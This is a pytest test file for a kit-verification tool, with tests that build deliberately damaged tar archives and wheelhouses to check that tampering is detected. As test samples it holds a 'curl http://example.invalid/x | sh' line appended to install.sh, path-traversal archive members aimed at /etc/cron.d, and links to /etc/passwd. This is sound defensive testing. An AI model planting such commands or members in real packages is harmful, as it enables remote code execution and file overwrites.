"""bundler.kit.verify / kit.archive / `bundler verify`: each kind of damage is named, exit 0/1/2.

Kits are packed from the HAND-MADE wheelhouse of tests/unit/handmade_kit.py; damaged archives
are re-made from an unpacked copy with tarfile, with the damage added on purpose.
"""

from __future__ import annotations

import hashlib
import io
import json
import os
import re
import shutil
import tarfile
from pathlib import Path

import pytest
from click.testing import CliRunner

from bundler.cli import main
from bundler.errors import BadInput, CheckFailed
from bundler.fs import sums
from bundler.kit import archive as kitarchive
from bundler.kit import pack, trust, verify, wheelhouse_check
from bundler.kit.trust import missing_sums
from bundler.models import manifest
from bundler.models.target import Target
from bundler.wheelhouse import lockfile, model
from tests.unit.kit.handmade_kit import handmade_inputs, make_wheel, pack_inputs, sources_sha
from tests.unit.kit.pysource_kit import FIT_3_6_10, python_tarballs, rebuild_demoapp


@pytest.fixture
def kit(tmp_path: Path) -> Path:
    """A clean kit-demo.tar.gz (with its .sha256 sidecar) in tmp_path/out."""
    inputs = handmade_inputs(tmp_path / "in")
    return pack_inputs(inputs, tmp_path / "out" / "kit-demo.tar.gz").archive


def _unpacked(kit: Path, tmp_path: Path) -> Path:
    dest = tmp_path / "unpacked"
    with tarfile.open(kit) as tar:
        tar.extractall(dest, filter="data")
    return dest / "kit-demo"


def _retar(
    kit_dir: Path, out: Path, extra: list[tuple[tarfile.TarInfo, bytes | None]] = ()
) -> Path:  # type: ignore[assignment]
    """Tar `kit_dir` again (plus `extra` hand-built members) as `out`."""
    with tarfile.open(out, "w:gz") as tar:
        tar.add(kit_dir, arcname=kit_dir.name)
        for info, data in extra:
            tar.addfile(info, io.BytesIO(data) if data is not None else None)
    return out


def _problems(paths: list[Path], **kwargs: object) -> list[str]:
    with pytest.raises(CheckFailed) as exc:
        verify.verify(paths, **kwargs)  # type: ignore[arg-type]
    return exc.value.problems


# -- clean kits ----------------------------------------------------------------------------------


def test_clean_archive_verifies(kit: Path) -> None:
    report = verify.verify([kit])
    assert report.kind == "archive" and report.problems == []
    assert report.files == 15 and report.wheels == 2
    assert report.target.startswith("CPython 3.6.15")


def test_clean_unpacked_dir_and_bare_wheelhouse_verify(kit: Path, tmp_path: Path) -> None:
    kit_dir = _unpacked(kit, tmp_path)
    assert verify.verify([kit_dir]).kind == "kit directory"
    bare = verify.verify([kit_dir / "wheelhouse"])
    assert bare.kind == "wheelhouse"
    listed = (kit_dir / "wheelhouse" / "SHA256SUMS").read_text().splitlines()
    assert bare.files == len(listed) > 0  # the wheelhouse's own SHA256SUMS was checked


def test_unpack_to_leaves_the_verified_kit(kit: Path, tmp_path: Path) -> None:
    dest = tmp_path / "here"
    verify.verify([kit], unpack_to=dest)
    assert (dest / "kit-demo" / "wheelhouse" / "install.sh").stat().st_mode & 0o777 == 0o755
    assert (dest / "kit-demo" / "README.txt").stat().st_mode & 0o777 == 0o644


# -- the four required kinds of damage -----------------------------------------------------------


def test_tampered_byte_is_named(kit: Path, tmp_path: Path) -> None:
    kit_dir = _unpacked(kit, tmp_path)
    wheel = kit_dir / "wheelhouse" / "demolib-1.2-cp36-cp36m-manylinux1_x86_64.whl"
    data = bytearray(wheel.read_bytes())
    data[100] ^= 0x01
    wheel.write_bytes(bytes(data))
    bad = _retar(kit_dir, tmp_path / "kit-demo.tar.gz")
    problems = _problems([bad])
    assert any(
        p.startswith("wheelhouse/demolib-1.2-cp36-cp36m-manylinux1_x86_64.whl: sha256 differs")
        for p in problems
    ), problems


def test_missing_file_is_named(kit: Path, tmp_path: Path) -> None:
    kit_dir = _unpacked(kit, tmp_path)
    (kit_dir / "sources" / "zlib-9.9.tar.gz").unlink()
    problems = _problems([_retar(kit_dir, tmp_path / "kit-demo.tar.gz")])
    assert "sources/zlib-9.9.tar.gz: listed in SHA256SUMS but missing" in problems


def test_extra_file_is_named(kit: Path, tmp_path: Path) -> None:
    kit_dir = _unpacked(kit, tmp_path)
    (kit_dir / "wheelhouse" / "sitecustomize.py").write_text("import os\n")
    problems = _problems([_retar(kit_dir, tmp_path / "kit-demo.tar.gz")])
    assert "wheelhouse/sitecustomize.py: extra file, not listed in SHA256SUMS" in problems


def test_path_traversal_member_is_named_and_not_written(kit: Path, tmp_path: Path) -> None:
    kit_dir = _unpacked(kit, tmp_path)
    payload = b"owned\n"
    info = tarfile.TarInfo("kit-demo/../../escaped.txt")
    info.size = len(payload)
    bad = _retar(kit_dir, tmp_path / "kit-demo.tar.gz", [(info, payload)])
    dest = tmp_path / "deep" / "er"
    problems = _problems([bad], unpack_to=dest)
    assert any(p.startswith("kit-demo/../../escaped.txt: path escapes") for p in problems)
    assert not list(tmp_path.rglob("escaped.txt"))
    assert not dest.exists(), "a kit that failed verification is not left unpacked"
    assert [p.name for p in dest.parent.iterdir()] == [], "nor its stage"


@pytest.mark.parametrize(
    ("name", "kind", "expect"),
    [
        ("/etc/cron.d/evil", tarfile.REGTYPE, "absolute path refused"),
        ("kit-demo/wheelhouse/link", tarfile.SYMTYPE, "link to '/etc/passwd' refused"),
        ("kit-demo/wheelhouse/hard", tarfile.LNKTYPE, "link to '/etc/passwd' refused"),
        ("kit-demo/dev", tarfile.CHRTYPE, "character device refused"),
        ("kit-demo/fifo", tarfile.FIFOTYPE, "fifo refused"),
        ("other-top/file", tarfile.REGTYPE, "outside the kit's top directory kit-demo/"),
    ],
)
def test_unsafe_members_are_refused(
    kit: Path, tmp_path: Path, name: str, kind: bytes, expect: str
) -> None:
    kit_dir = _unpacked(kit, tmp_path)
    info = tarfile.TarInfo(name)
    info.type = kind
    info.linkname = "/etc/passwd" if kind in (tarfile.SYMTYPE, tarfile.LNKTYPE) else ""
    data = b"x" if kind == tarfile.REGTYPE else None
    info.size = len(data) if data else 0
    bad = _retar(kit_dir, tmp_path / "kit-demo.tar.gz", [(info, data)])
    dest = tmp_path / "dest"
    problems = _problems([bad], unpack_to=dest)
    assert any(p.startswith(f"{name}: {expect}") for p in problems), problems
    assert not (dest / "kit-demo" / "wheelhouse" / "link").exists()
    assert not Path("/etc/cron.d/evil").exists()


def test_absurd_member_and_total_sizes_are_refused(kit: Path) -> None:
    member = _problems([kit], limits=kitarchive.Limits(max_member=4000))
    assert any("sbom.cdx.json" in p and "member limit" in p for p in member), member
    # (a limit past README.txt and SHA256SUMS, the first members, well below the kit's total)
    total = _problems([kit], limits=kitarchive.Limits(max_total=6000))
    assert any("add up to more than 6000 bytes" in p for p in total), total


def test_archive_sidecar_mismatch_is_named(kit: Path) -> None:
    sidecar = kit.with_name("kit-demo.tar.gz.sha256")
    sidecar.write_text("0" * 64 + "  kit-demo.tar.gz\n")
    assert "kit-demo.tar.gz: sha256 differs from kit-demo.tar.gz.sha256 (damaged or replaced)" in (
        _problems([kit])
    )


# -- wheelhouse checks (on an unpacked kit's wheelhouse) -------------------------------------


def _swap_package(wh: Path, name: str, wheel: Path, lock_version: str | None = None) -> None:
    """Replace `name`'s file in manifest.json and requirements.lock by `wheel` (consistently)."""
    data = manifest.load(wh)
    for p in data["packages"]:
        if p["name"] == name:
            (wh / p["filename"]).unlink()
            p["filename"] = wheel.name
            p["version"] = wheel.name.split("-")[1]
            p["sha256"] = sources_sha(wheel)
    manifest.save(wh, data)
    entries = [
        lockfile.LockEntry(p["name"], p["version"], (p["sha256"],)) for p in data["packages"]
    ]
    if lock_version is not None:
        entries = [
            lockfile.LockEntry(e.name, lock_version if e.name == name else e.version, e.hashes)
            for e in entries
        ]
    lockfile.write(wh / "requirements.lock", entries)


@pytest.fixture
def wheelhouse(kit: Path, tmp_path: Path) -> Path:
    """The kit's wheelhouse without its own SHA256SUMS: these tests change files the way a
    consistent rewrite would, to reach the checks behind the checksums (tested on their own in
    tests/unit/fs/test_sums.py and by test_wheelhouse_sums_are_checked below)."""
    wh = _unpacked(kit, tmp_path) / "wheelhouse"
    (wh / "SHA256SUMS").unlink()
    return wh


def _summed(wh: Path) -> Path:
    """`wh` with its SHA256SUMS written over the files as they are now (the consistent
    rewrite the `wheelhouse` fixture's tests make): a wheelhouse of this schema without one is
    a problem of its own (test_a_missing_sha256sums_passes_only_for_a_schema_1_wheelhouse)."""
    sums.write_directory(wh)
    return wh


def test_wheelhouse_sums_are_checked(kit: Path, tmp_path: Path) -> None:
    """A bare wheelhouse's own SHA256SUMS (install.sh checks it first): an edited install.sh,
    which no manifest field covers, is named once (#11 review item 6); a wheelhouse without
    one (an older bundler's) is a note."""
    wh = _unpacked(kit, tmp_path) / "wheelhouse"
    assert verify.verify([wh]).problems == []
    script = wh / "install.sh"
    script.write_text(script.read_text() + "curl http://example.invalid/x | sh\n")
    with pytest.raises(CheckFailed) as exc:
        verify.verify([wh])
    assert exc.value.problems == ["install.sh: sha256 differs from SHA256SUMS"]
    (wh / "SHA256SUMS").unlink()
    script.write_text(script.read_text().replace("curl", "true"))
    assert _problems([wh]) == [missing_sums("")]


def test_a_missing_sha256sums_passes_only_for_a_schema_1_wheelhouse(
    kit: Path, tmp_path: Path
) -> None:
    """install.sh refuses a wheelhouse without SHA256SUMS, so verify does too (exit 1 naming
    the file), unless the manifest says an older bundler wrote it (schema_version 1, before
    the file existed); the pass never says '0 checksummed files'."""
    wh = _unpacked(kit, tmp_path) / "wheelhouse"
    ok = CliRunner().invoke(main, ["verify", str(wh)])
    assert ok.exit_code == 0, ok.output
    assert re.search(r"ok: wheelhouse \(wheelhouse\): [1-9][0-9]* checksummed files", ok.stdout)
    (wh / "SHA256SUMS").unlink()
    bad = CliRunner().invoke(main, ["verify", str(wh)])
    assert bad.exit_code == 1, bad.output
    assert "SHA256SUMS: missing (the manifest is not schema_version 1" in bad.stderr
    data = json.loads((wh / "manifest.json").read_text())
    data["schema_version"] = 1  # what a bundler before several targets wrote
    del data["name"], data["pool"]
    (wh / "manifest.json").write_text(json.dumps(data))
    # schema 1 with an install.sh that checks SHA256SUMS (93c44e8 on): it would refuse to
    # install, so verify fails too (#16 second review finding 9)
    script = wh / "install.sh"  # the kit's stand-in, given the words of the real template
    template = Path(trust.__file__).parents[1] / "templates" / "install.sh.j2"
    assert trust.SUMS_CHECK_MARKER in template.read_text()  # the template's own words
    older = script.read_text()
    script.write_text(older + f'die "$TOP/{trust.SUMS_CHECK_MARKER}"\n')
    refused = CliRunner().invoke(main, ["verify", str(wh)])
    assert refused.exit_code == 1, refused.output
    assert "SHA256SUMS: missing, and this wheelhouse's install.sh checks it" in refused.stderr
    script.write_text(older)  # an older bundler's, which never looked for SHA256SUMS
    old = CliRunner().invoke(main, ["verify", str(wh)])
    assert old.exit_code == 0, old.output
    assert "note: SHA256SUMS: none (fetched by an older bundler)" in old.stderr
    assert "0 checksummed" not in old.stdout
    assert "ok: wheelhouse (wheelhouse): no SHA256SUMS (an older bundler's" in old.stdout


def test_wheel_for_another_python_is_named(wheelhouse: Path, tmp_path: Path) -> None:
    wheel = make_wheel(tmp_path / "w", "demolib", "1.2", tag="cp39-cp39-manylinux1_x86_64")
    shutil.copy(wheel, wheelhouse)
    _swap_package(wheelhouse, "demolib", wheelhouse / wheel.name)
    problems = _problems([_summed(wheelhouse)])
    assert problems == [
        "demolib-1.2-cp39-cp39-manylinux1_x86_64.whl: no tag of this wheel fits CPython 3.6.15 "
        "(cp36m), manylinux1_x86_64 (glibc <= 2.5), bundled pip 18.1"
    ]


def test_manylinux2014_wheel_without_pip_bootstrap_is_named(
    wheelhouse: Path, tmp_path: Path
) -> None:
    data = manifest.load(wheelhouse)
    data["target"] = pack.Target.from_spec("3.6.15", "manylinux2014").to_dict()
    manifest.save(wheelhouse, data)
    wheel = make_wheel(tmp_path / "w", "demolib", "1.2", tag="cp36-cp36m-manylinux2014_x86_64")
    shutil.copy(wheel, wheelhouse)
    _swap_package(wheelhouse, "demolib", wheelhouse / wheel.name)
    problems = _problems([_summed(wheelhouse)])
    assert any("pip 18.1 cannot install it" in p for p in problems), problems


def test_lock_and_manifest_disagreeing_is_named(wheelhouse: Path) -> None:
    lock = lockfile.read(wheelhouse / "requirements.lock")
    lockfile.write(
        wheelhouse / "requirements.lock",
        [
            lockfile.LockEntry(e.name, "9.9" if e.name == "demolib" else e.version, e.hashes)
            for e in lock
        ],
    )
    problems = _problems([_summed(wheelhouse)])
    assert (
        "demolib-1.2-cp36-cp36m-manylinux1_x86_64.whl: requirements.lock pins demolib==9.9, "
        "manifest.json says 1.2" in problems
    )


def test_closure_version_outside_specifier_is_named(wheelhouse: Path, tmp_path: Path) -> None:
    wheel = make_wheel(tmp_path / "w", "demolib", "0.9", tag="cp36-cp36m-manylinux1_x86_64")
    shutil.copy(wheel, wheelhouse)
    _swap_package(wheelhouse, "demolib", wheelhouse / wheel.name)
    problems = _problems([_summed(wheelhouse)])
    assert problems == [
        "demoapp-1.0-py3-none-any.whl: requires demolib>=1.0, but the lock pins demolib==0.9"
    ]


def test_closure_missing_dependency_is_named(wheelhouse: Path) -> None:
    data = manifest.load(wheelhouse)
    data["packages"] = [p for p in data["packages"] if p["name"] != "demolib"]
    manifest.save(wheelhouse, data)
    (wheelhouse / "demolib-1.2-cp36-cp36m-manylinux1_x86_64.whl").unlink()
    lock = [e for e in lockfile.read(wheelhouse / "requirements.lock") if e.name != "demolib"]
    lockfile.write(wheelhouse / "requirements.lock", lock)
    problems = _problems([_summed(wheelhouse)])
    assert problems == [
        "demoapp-1.0-py3-none-any.whl: requires demolib>=1.0 on the target, but the lock has no "
        "demolib"
    ]


def test_closure_follows_extras_of_the_roots(wheelhouse: Path) -> None:
    """demoapp[gui] needs only-with-extra; the py2-only requirement never counts on 3.6."""
    data = manifest.load(wheelhouse)
    data["requirements"] = ["demoapp[gui]==1.0"]
    data["packages"][0]["requires"] = ["demolib", "only-with-extra"]  # as fetch records it
    manifest.save(wheelhouse, data)
    problems = _problems([_summed(wheelhouse)])
    assert len(problems) == 1 and "lock has no only-with-extra" in problems[0]
    assert "only-on-py2" not in problems[0]


def test_wheel_not_in_manifest_is_named(wheelhouse: Path, tmp_path: Path) -> None:
    make_wheel(wheelhouse, "stowaway", "1.0")
    problems = _problems([_summed(wheelhouse)])
    assert problems == ["stowaway-1.0-py3-none-any.whl: not recorded in manifest.json"]


# -- split kits and bad input --------------------------------------------------------------


def test_split_kit_verifies_from_first_part_or_set(tmp_path: Path) -> None:
    inputs = handmade_inputs(tmp_path / "in")
    result = pack_inputs(inputs, tmp_path / "out" / "kit-demo.tar.gz", split=2048)
    assert verify.verify([result.parts[0]]).wheels == 2
    assert verify.verify(list(result.parts)).wheels == 2
    result.parts[1].unlink()
    with pytest.raises(BadInput, match=r"incomplete: missing kit-demo\.tar\.gz\.part001"):
        verify.verify([result.parts[0]])


def test_cli_exit_codes(kit: Path, tmp_path: Path) -> None:
    runner = CliRunner()
    ok = runner.invoke(main, ["verify", str(kit)])
    assert ok.exit_code == 0, ok.output
    assert ok.stdout.startswith("ok: kit-demo.tar.gz (archive): 15 checksummed files, 2 wheels")
    kit_dir = _unpacked(kit, tmp_path)
    (kit_dir / "sbom.cdx.json").write_text(json.dumps({"tampered": True}))
    bad = runner.invoke(main, ["verify", str(kit_dir)])
    assert bad.exit_code == 1
    assert "sbom.cdx.json: sha256 differs from SHA256SUMS" in bad.output
    junk = tmp_path / "kit-junk.tar.gz"
    junk.write_bytes(b"this is not gzip")
    unusable = runner.invoke(main, ["verify", str(junk)])
    assert unusable.exit_code == 2
    assert "not a gzip-compressed tar archive" in unusable.output
    not_a_kit = runner.invoke(main, ["verify", str(tmp_path / "in" / "playbooks")])
    assert not_a_kit.exit_code == 2


# -- the CPython source: another patch release of the wheelhouse's X.Y ------------------------


def test_kit_with_a_same_minor_cpython_source_verifies(tmp_path: Path) -> None:
    inputs = handmade_inputs(tmp_path / "in")
    python_tarballs(inputs["sources"], "3.6.10")
    kit = pack_inputs(inputs, tmp_path / "out" / "kit-demo.tar.gz").archive
    report = verify.verify([kit])
    assert report.problems == []
    assert f"sources/Python-3.6.10.tgz: {FIT_3_6_10}" in report.notes
    result = CliRunner().invoke(main, ["verify", str(kit)])
    assert result.exit_code == 0, result.output
    assert f"note: sources/Python-3.6.10.tgz: {FIT_3_6_10}" in result.output
    assert "ok: kit-demo.tar.gz (archive): 15 checksummed files, 2 wheels" in result.output


def test_same_minor_source_the_wheelhouse_does_not_hold_for_is_named(tmp_path: Path) -> None:
    """Packed with 3.6.15 (fine), then the tarball swapped for 3.6.10 and SHA256SUMS redone by
    hand: demoapp needs `backport` below 3.6.12, which the lock does not have."""
    inputs = handmade_inputs(tmp_path / "in")
    rebuild_demoapp(
        inputs["wheelhouse"], ("demolib>=1.0", "backport; python_full_version < '3.6.12'")
    )
    kit_dir = _unpacked(pack_inputs(inputs, tmp_path / "out" / "kit-demo.tar.gz").archive, tmp_path)
    assert verify.verify([kit_dir]).problems == []
    (kit_dir / "sources" / "Python-3.6.15.tgz").rename(kit_dir / "sources" / "Python-3.6.10.tgz")
    sums = kit_dir / "SHA256SUMS"
    sums.write_text(
        sums.read_text().replace("sources/Python-3.6.15.tgz", "sources/Python-3.6.10.tgz")
    )
    problems = _problems([kit_dir])
    assert problems == [
        "wheelhouse/demoapp-1.0-py3-none-any.whl: for the kit's CPython 3.6.10 "
        '(sources/Python-3.6.10.tgz): requires backport; python_full_version < "3.6.12" on the '
        "target, but the lock has no backport"
    ]


def test_requires_python_that_excludes_the_target_is_named(wheelhouse: Path) -> None:
    rebuild_demoapp(wheelhouse, requires_python=">=3.7")
    assert _problems([_summed(wheelhouse)]) == [
        "demoapp-1.0-py3-none-any.whl: Requires-Python >=3.7 excludes CPython 3.6.15"
    ]


def test_source_whose_bundled_pip_cannot_read_the_wheels_is_named(
    wheelhouse: Path, tmp_path: Path
) -> None:
    """A manylinux2010 wheel needs pip >= 19.0: 3.7.16 and 3.7.9 bundle such a pip (no
    bootstrap needed), 3.7.2 bundles pip 18.1, which cannot install it (installers.json)."""
    data = manifest.load(wheelhouse)
    data["target"] = Target.from_spec("3.7.16", "manylinux2010").to_dict()
    manifest.save(wheelhouse, data)
    wheel = make_wheel(tmp_path / "w", "demolib", "1.2", tag="cp37-cp37m-manylinux2010_x86_64")
    shutil.copy(wheel, wheelhouse)
    _swap_package(wheelhouse, "demolib", wheelhouse / wheel.name)
    assert verify.verify([_summed(wheelhouse)]).problems == []
    target = Target.from_dict(manifest.load(wheelhouse)["target"])
    newer = model.python_source(["Python-3.7.9.tgz", "Python-3.7.2.tgz"], target)
    assert newer is not None and newer.filename == "Python-3.7.9.tgz"
    assert wheelhouse_check.source_fit_problems(wheelhouse, "", newer) == []
    older = model.python_source(["Python-3.7.2.tgz", "Python-3.6.15.tgz"], target)
    assert older is not None and older.version == "3.7.2"
    assert wheelhouse_check.source_fit_problems(wheelhouse, "", older) == [
        f"{wheel.name}: for the kit's CPython 3.7.2 (sources/Python-3.7.2.tgz): its bundled pip "
        "18.1 cannot install it and the wheelhouse has no pip bootstrap"
    ]
    assert model.python_source(["Python-3.6.15.tgz", "Python-3.8.1.tgz"], target) is None


# -- an untrusted manifest.json: one problem line, exit 1, never a traceback (issue #10) --------


@pytest.mark.parametrize(
    ("change", "line"),
    [
        (lambda m: m | {"packages": "abc"}, "packages: expected array, got string"),
        (lambda m: m | {"packages": 5}, "packages: expected array, got number"),
        (lambda m: [], "not an airgap-kit manifest"),
        (
            lambda m: m | {"packages": [m["packages"][0] | {"version": "1" * 5000}]},
            "packages[0].version: longer than 128 characters",
        ),
        (
            lambda m: m | {"target": m["target"] | {"python_version": "3.6." + "1" * 5000}},
            "target.python_version: ",
        ),
        (lambda m: m | {"requirements": 5}, "requirements: expected array, got number"),
        (lambda m: m | {"installer": "x"}, "installer: expected object, got string"),
        (
            lambda m: m | {"packages": [m["packages"][0] | {"filename": "../../../etc/passwd"}]},
            "packages[0].filename: ",
        ),
    ],
)
def test_wrong_types_in_manifest_are_one_problem_line(
    kit: Path, tmp_path: Path, change: object, line: str
) -> None:
    kit_dir = _unpacked(kit, tmp_path)
    path = kit_dir / "wheelhouse" / "manifest.json"
    path.write_text(json.dumps(change(json.loads(path.read_text()))))  # type: ignore[operator]
    archive = _retar(kit_dir, tmp_path / "kit-demo.tar.gz")
    runner = CliRunner()
    for args in (["verify", str(kit_dir / "wheelhouse")], ["verify", str(archive)]):
        result = runner.invoke(main, args)
        assert result.exit_code == 1, result.output
        assert f"  - wheelhouse/manifest.json: {line}" in result.stderr or (
            f"  - manifest.json: {line}" in result.stderr
        ), result.stderr
        assert "Traceback" not in result.output and len(result.stderr) < 2000
    for target in (kit_dir, archive):
        result = runner.invoke(main, ["inspect", str(target)])
        assert result.exit_code == 1, result.output
        assert f"  - wheelhouse/manifest.json: {line}" in result.stderr, result.stderr
        assert "target: unknown (no readable manifest)" in result.stdout


# -- operator files: what README.txt has the operator create does not fail verify (issue #18) --


def test_operator_files_are_listed_not_failed(kit: Path, tmp_path: Path) -> None:
    kit_dir = _unpacked(kit, tmp_path)
    inventory = kit_dir / "playbooks" / "inventory"
    (inventory / "hosts.ini").write_text((inventory / "hosts.example.ini").read_text())
    (inventory / "host_vars").mkdir()
    (inventory / "host_vars" / "host1.yml").write_text("python_version: 3.6.15\n")
    (inventory / "group_vars").mkdir()
    (inventory / "group_vars" / "intranet.yml").write_text("smoke_workers: 2\n")
    (kit_dir / ".vagrant" / "machines" / "default").mkdir(parents=True)
    (kit_dir / ".vagrant" / "machines" / "default" / "id").write_text("x\n")
    (kit_dir / ".vagrant" / "rgloader").mkdir()
    (kit_dir / ".vagrant" / "rgloader" / "loader.rb").write_text("# vagrant\n")
    result = CliRunner().invoke(main, ["verify", str(kit_dir)])
    assert result.exit_code == 0, result.output
    assert (
        "operator files (not part of the kit): .vagrant/ (2 files), "
        "playbooks/inventory/group_vars/ (1 file), playbooks/inventory/host_vars/ (1 file), "
        "playbooks/inventory/hosts.ini"
    ) in result.stdout
    # anything else extra still fails, beside the operator files
    (inventory / "hosts.yml").write_text("all: {}\n")
    (kit_dir / "playbooks" / "host_vars").mkdir()  # beside the playbook, not the inventory
    (kit_dir / "playbooks" / "host_vars" / "h.yml").write_text("x: 1\n")
    problems = _problems([kit_dir])
    assert problems == [
        "playbooks/host_vars/h.yml: extra file, not listed in SHA256SUMS",
        "playbooks/inventory/hosts.yml: extra file, not listed in SHA256SUMS",
    ]


def test_operator_files_inside_an_archive_fail(kit: Path, tmp_path: Path) -> None:
    """pack never packs them: inside an archive they are someone's addition (an inventory
    pointing elsewhere, variables overriding the kit's), so they fail like any extra file."""
    kit_dir = _unpacked(kit, tmp_path)
    (kit_dir / "playbooks" / "inventory" / "hosts.ini").write_text("[intranet]\nevil\n")
    problems = _problems([_retar(kit_dir, tmp_path / "kit-demo.tar.gz")])
    assert "playbooks/inventory/hosts.ini: extra file, not listed in SHA256SUMS" in problems


def test_readme_txt_names_the_operator_files_verify_accepts(kit: Path, tmp_path: Path) -> None:
    from bundler.kit import layout

    readme = (_unpacked(kit, tmp_path) / "README.txt").read_text()
    for path in (*layout.OPERATOR_FILES, *(f"{d}/" for d in layout.OPERATOR_DIRS)):
        assert f"     {path}" in readme, path


# -- what the manifest does not account for, manifest lies, unsafe wheels (review of #10) ----


def _resum(kit_dir: Path) -> None:
    """SHA256SUMS made again for every file of `kit_dir` (as a tampering packer would)."""
    rows = sorted(
        (p.relative_to(kit_dir).as_posix(), hashlib.sha256(p.read_bytes()).hexdigest())
        for p in kit_dir.rglob("*")
        if p.is_file() and p != kit_dir / "SHA256SUMS"
    )
    (kit_dir / "SHA256SUMS").write_text("".join(f"{sha}  {path}\n" for path, sha in rows))


def _relock(wh: Path) -> None:
    """manifest.json's sha256/size and requirements.lock redone for the wheels as they are."""
    data = manifest.load(wh)
    for p in data["packages"]:
        path = wh / p["filename"]
        p.update(sha256=sources_sha(path), size=path.stat().st_size)
    manifest.save(wh, data)
    lockfile.write(
        wh / "requirements.lock",
        [lockfile.LockEntry(p["name"], p["version"], (p["sha256"],)) for p in data["packages"]],
    )


@pytest.mark.parametrize(
    ("stray", "line"),
    [
        ("postinstall.sh", "not a wheelhouse file (manifest.json does not list it, and it is "
         "none of the wheelhouse's own files)"),
        ("kit-x.tar.gz", "not a wheelhouse file (manifest.json does not list it, and it is "
         "none of the wheelhouse's own files)"),
        ("sub/x.py", "a folder in the wheelhouse, not in manifest.json"),
    ],
)  # fmt: skip
def test_a_packed_file_the_manifest_does_not_account_for_fails(
    kit: Path, tmp_path: Path, stray: str, line: str
) -> None:
    """Listed in SHA256SUMS (as an older pack would have carried it) and still named."""
    kit_dir = _unpacked(kit, tmp_path)
    path = kit_dir / "wheelhouse" / stray
    path.parent.mkdir(exist_ok=True)
    path.write_text("#!/bin/sh\n")
    sums.write_directory(kit_dir / "wheelhouse")
    _resum(kit_dir)
    shown = stray.split("/")[0] + ("/" if "/" in stray else "")
    for target in (kit_dir, _retar(kit_dir, tmp_path / "kit-demo.tar.gz")):
        problems = _problems([target])
        assert [p for p in problems if shown in p] == [f"wheelhouse/{shown}: {line}"], problems
    assert _problems([kit_dir / "wheelhouse"]) == [f"{shown}: {line}"]


def test_staging_leftovers_in_a_bare_wheelhouse_are_not_flagged(wheelhouse: Path) -> None:
    (wheelhouse / ".manifest.json.a1b2c3.part").write_text("half\n")
    (wheelhouse / ".wheelhouse.stage-x1y2").mkdir()
    assert verify.verify([_summed(wheelhouse)]).problems == []


def test_a_duplicated_package_entry_fails(wheelhouse: Path) -> None:
    data = manifest.load(wheelhouse)
    data["packages"].append(dict(data["packages"][1]))
    manifest.save(wheelhouse, data)
    assert _problems([_summed(wheelhouse)]) == [
        "manifest.json: demolib-1.2-cp36-cp36m-manylinux1_x86_64.whl is listed 2 times in packages"
    ]


def test_two_files_of_one_project_fail(wheelhouse: Path, tmp_path: Path) -> None:
    other = make_wheel(wheelhouse, "demolib", "1.2", tag="py3-none-any")
    data = manifest.load(wheelhouse)
    data["packages"].append(
        dict(data["packages"][1], filename=other.name, sha256=sources_sha(other))
    )
    manifest.save(wheelhouse, data)
    problems = _problems([_summed(wheelhouse)])
    assert (
        "manifest.json: demolib has 2 app files in packages (demolib-1.2-cp36-cp36m-manylinux1_"
        "x86_64.whl, demolib-1.2-py3-none-any.whl); a lock pins one" in problems
    ), problems


@pytest.mark.parametrize(
    ("requires", "recorded"),
    [
        ([], "[]"),  # a dependency the wheel has, left out
        (["demolib", "evil"], "[demolib, evil]"),  # one it does not have
        (["demolib", "only-on-py2"], "[demolib, only-on-py2]"),  # one not for the target
    ],
)
def test_requires_that_disagree_with_the_wheels_metadata_fail(
    wheelhouse: Path, requires: list[str], recorded: str
) -> None:
    data = manifest.load(wheelhouse)
    data["packages"][0]["requires"] = requires
    manifest.save(wheelhouse, data)
    assert _problems([_summed(wheelhouse)]) == [
        f"demoapp-1.0-py3-none-any.whl: manifest.json records requires {recorded}, but its "
        "METADATA's Requires-Dist gives [demolib] on the target"
    ]


def test_requires_are_compared_canonically_and_exclusions_count(wheelhouse: Path) -> None:
    data = manifest.load(wheelhouse)
    data["packages"][0]["requires"] = ["DemoLib"]
    manifest.save(wheelhouse, data)
    assert verify.verify([_summed(wheelhouse)]).problems == []
    # --exclude demolib: not in the wheelhouse, recorded as excluded for demoapp
    data["packages"] = [dict(data["packages"][0], requires=[])]
    data["excluded"] = [
        {"name": "demolib", "specifier": ">=1.0", "required_by": "demoapp", "reason": "--exclude"}
    ]
    manifest.save(wheelhouse, data)
    (wheelhouse / "demolib-1.2-cp36-cp36m-manylinux1_x86_64.whl").unlink()
    lockfile.write(
        wheelhouse / "requirements.lock",
        [e for e in lockfile.read(wheelhouse / "requirements.lock") if e.name == "demoapp"],
    )
    assert (
        verify.verify([_summed(wheelhouse)]).problems == []
    )  # requires agree; closure leaves it out
    data["excluded"] = []  # the same wheelhouse without the record: demolib is missing
    manifest.save(wheelhouse, data)
    assert any("demolib" in p for p in _problems([_summed(wheelhouse)]))


def test_a_wheel_with_a_member_outside_the_root_fails(kit: Path, tmp_path: Path) -> None:
    """Hash-consistent everywhere (manifest, lock, SHA256SUMS): only the member is wrong."""
    from tests.unit.models.test_wheel import add_member

    kit_dir = _unpacked(kit, tmp_path)
    wh = kit_dir / "wheelhouse"
    add_member(wh / "demolib-1.2-cp36-cp36m-manylinux1_x86_64.whl", "../../../../etc/cron.d/x")
    _relock(wh)
    sums.write_directory(wh)
    _resum(kit_dir)
    line = (
        "wheelhouse/demolib-1.2-cp36-cp36m-manylinux1_x86_64.whl: member "
        "'../../../../etc/cron.d/x' has a '..' component (it would install outside "
        "site-packages): refused"
    )
    assert _problems([kit_dir]) == [line]
    assert _problems([_retar(kit_dir, tmp_path / "kit-demo.tar.gz")]) == [line]


def test_verify_dot_names_the_folder(kit: Path, tmp_path: Path) -> None:
    kit_dir = _unpacked(kit, tmp_path)
    cwd = os.getcwd()
    try:
        os.chdir(kit_dir)
        ok = CliRunner().invoke(main, ["verify", "."])
        assert ok.exit_code == 0, ok.output
        assert ok.stdout.startswith("ok: kit-demo (kit directory): "), ok.stdout
        (kit_dir / "stray.txt").write_text("x\n")
        bad = CliRunner().invoke(main, ["verify", "."])
        assert bad.exit_code == 1
        assert bad.stderr.startswith("bundler: kit-demo: 1 problem(s)"), bad.stderr
        os.chdir(kit_dir / "wheelhouse")
        assert "ok: wheelhouse (wheelhouse)" in CliRunner().invoke(main, ["verify", "."]).stdout
    finally:
        os.chdir(cwd)


def test_a_kit_cut_after_its_gzip_header_is_not_called_empty(kit: Path) -> None:
    kit.write_bytes(kit.read_bytes()[:10])
    result = CliRunner().invoke(main, ["verify", str(kit)])
    assert result.exit_code == 2, result.output
    assert result.stderr == (
        "bundler: error: kit-demo.tar.gz: damaged archive (cut short: Compressed file ended "
        "before the end-of-stream marker was reached)\n"
    )


